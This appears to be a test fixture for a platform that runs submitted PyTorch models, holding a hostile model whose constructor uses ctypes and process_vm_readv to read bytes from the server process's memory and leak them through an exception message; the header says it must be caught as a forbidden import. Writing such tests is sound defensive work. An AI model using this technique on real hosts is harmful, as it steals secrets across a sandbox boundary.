# tries: Copy bytes out of the datasite's memory by a system call.
# must: inspection import
import ctypes
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Linear(4, 1)
        class Vector(ctypes.Structure):
            _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
        found = ctypes.create_string_buffer(SECRET_SIZE)
        here = Vector(ctypes.cast(found, ctypes.c_void_p), SECRET_SIZE)
        there = Vector(SECRET_ADDRESS, SECRET_SIZE)
        ctypes.CDLL(None).process_vm_readv(SERVER_PID, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        raise ValueError(found.value.decode("latin-1"))

    def forward(self, x):
        return self.a(x)
